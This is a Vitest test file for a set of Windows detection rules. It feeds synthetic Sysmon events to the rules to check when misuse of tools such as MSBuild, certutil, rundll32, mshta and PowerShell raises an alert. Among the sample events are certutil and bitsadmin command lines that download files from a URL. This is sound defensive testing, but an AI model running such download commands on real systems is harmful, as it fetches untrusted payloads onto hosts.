import { describe, expect, test } from "vitest";
import { compileFile } from "#core/detection/compile";
import { createRuleSet } from "#core/detection/rule-set";
import { normalise } from "#core/normalise/normalise";
import { loadBuiltInRules } from "./builtin.ts";

const files = await loadBuiltInRules();
const compiled = files.map((file) => compileFile(file));
const rules = createRuleSet(compiled.flatMap((file) => file.rules));

/** Titles of the rules that fire on a Sysmon record with these members. */
function fired(eventId: number, members: Record<string, string>): readonly string[] {
  const body = {
    System: {
      Provider: { Name: "Microsoft-Windows-Sysmon" },
      EventID: String(eventId),
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Computer: "ws1.example.org",
      EventRecordID: "1",
      TimeCreated: { SystemTime: "2026-03-09T09:00:02.000Z" },
    },
    EventData: { UtcTime: "2026-03-09 09:00:02.000", ...members },
  };
  const event = normalise({ position: { file: "test", record: 1 }, shape: "windows-event", body }, { receivedAt: 0 });
  if ("kind" in event) throw new Error(event.detail);
  return rules.match(event).map((rule) => rule.title);
}

const NET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\";
const SYSTEM = "C:\\Windows\\System32\\";
const connection = (image: string, port: number, ip = "203.0.113.9", initiated = "true") =>
  fired(3, { Image: image, DestinationPort: String(port), DestinationIp: ip, Initiated: initiated, Protocol: "tcp" });

test.each(files.map((file, at) => [file.file, compiled[at]] as const))("%s compiles without a word", (_, file) => {
  expect(file?.diagnostics).toEqual([]);
  expect(file?.rules).toHaveLength(1);
  expect(file?.rules[0]).toMatchObject({ author: "Callout", status: "test" });
  expect(file?.rules[0]?.tags.some((tag) => /^attack\.t\d{4}/.test(tag))).toBe(true);
  expect(file?.rules[0]?.falsePositives.length).toBeGreaterThan(0);
});

test("every rule has an id of its own", () => {
  const ids = compiled.flatMap((file) => file.rules.map((rule) => rule.id));
  expect(new Set(ids).size).toBe(ids.length);
});

describe("what fires on a connection", () => {
  test.each([
    [`${NET}MSBuild.exe`, 443, "203.0.113.9", "true", ["MSBuild Making Network Connections"]],
    [`${NET}msbuild.exe`, 80, "10.0.0.8", "true", ["MSBuild Making Network Connections"]],
    [`${NET}MSBuild.exe`, 8443, "203.0.113.9", "true", ["MSBuild Connecting to Non-Standard Ports"]],
    [`${NET}MSBuild.exe`, 8443, "203.0.113.9", "false", []],
    ["C:\\Tools\\notmsbuild.exe", 443, "203.0.113.9", "true", []],
    [`${SYSTEM}msiexec.exe`, 443, "203.0.113.9", "true", ["Msiexec Connecting Over HTTP"]],
    [`${SYSTEM}msiexec.exe`, 8080, "203.0.113.9", "true", []],
    [`${SYSTEM}rundll32.exe`, 443, "203.0.113.9", "true", ["Rundll32 Connecting to a Public Address"]],
    [`${SYSTEM}rundll32.exe`, 443, "10.1.1.1", "true", []],
    [`${SYSTEM}rundll32.exe`, 443, "0:0:0:0:0:0:0:1", "true", []],
    [`${SYSTEM}regsvr32.exe`, 80, "10.1.1.1", "true", ["Regsvr32 Making Network Connections"]],
    [`${SYSTEM}mshta.exe`, 80, "203.0.113.9", "true", ["Mshta Making Network Connections"]],
    [`${SYSTEM}certutil.exe`, 80, "203.0.113.9", "true", ["Certutil Connecting to a Public Address"]],
    [`${NET}InstallUtil.exe`, 443, "203.0.113.9", "true", ["InstallUtil Making Network Connections"]],
    [`${SYSTEM}cmstp.exe`, 443, "203.0.113.9", "true", ["CMSTP Making Network Connections"]],
    [`${SYSTEM}wscript.exe`, 443, "203.0.113.9", "true", ["Windows Script Host Connecting to a Public Address"]],
    [`${NET}RegAsm.exe`, 443, "203.0.113.9", "true", ["Regasm or Regsvcs Making Network Connections"]],
    [
      `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
      4444,
      "203.0.113.9",
      "true",
      ["PowerShell Connecting to a Public Address on an Uncommon Port"],
    ],
    [`${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, 443, "203.0.113.9", "true", []],
    [`${SYSTEM}svchost.exe`, 443, "203.0.113.9", "true", []],
  ])("%s to port %i of %s, initiated %s", (image, port, ip, initiated, titles) => {
    expect(connection(image, port, ip, initiated)).toEqual(titles);
  });
});

describe("what fires on a process or a question for a name", () => {
  test.each([
    [
      1,
      { Image: `${SYSTEM}certutil.exe`, CommandLine: "certutil /urlcache /f https://example.org/a.bin a" },
      ["Certutil Told to Download a File"],
    ],
    [1, { Image: `${SYSTEM}certutil.exe`, CommandLine: "certutil -dump a.cer" }, []],
    [
      1,
      { Image: `${SYSTEM}bitsadmin.exe`, CommandLine: "bitsadmin /transfer j http://example.org/a C:\\a" },
      ["Bitsadmin Told to Transfer From a URL"],
    ],
    [1, { Image: `${NET}MSBuild.exe`, ParentImage: "C:\\Office\\WINWORD.EXE" }, ["Office Application Starting a Trusted Tool"]],
    [
      1,
      { Image: "C:\\t\\x.exe", OriginalFileName: "MSBuild.exe", ParentImage: "C:\\Office\\EXCEL.EXE" },
      ["Office Application Starting a Trusted Tool"],
    ],
    [1, { Image: "C:\\Office\\splwow64.exe", ParentImage: "C:\\Office\\WINWORD.EXE" }, []],
    [1, { Image: `${SYSTEM}cmd.exe`, ParentImage: "C:\\Office\\WINWORD.EXE" }, ["Office Application Starting a Shell"]],
    [1, { Image: `${SYSTEM}mshta.exe`, ParentImage: "C:\\Office\\OUTLOOK.EXE" }, ["Office Application Starting a Shell"]],
    [
      1,
      { Image: "C:\\t\\x.exe", OriginalFileName: "PowerShell.EXE", ParentImage: "C:\\Office\\EXCEL.EXE" },
      ["Office Application Starting a Shell"],
    ],
    [1, { Image: `${SYSTEM}cmd.exe`, ParentImage: `${SYSTEM}explorer.exe` }, []],
    [1, { Image: "C:\\t\\notcmd.exe", ParentImage: "C:\\Office\\WINWORD.EXE" }, []],
    [22, { Image: `${NET}MSBuild.exe`, QueryName: "evil.example" }, ["Build or Registration Tool Resolving a Name"]],
    [22, { Image: `${NET}MSBuild.exe`, QueryName: "api.nuget.org" }, []],
  ])("Sysmon %i %j", (eventId, members, titles) => {
    expect(fired(eventId, members)).toEqual(titles);
  });
});
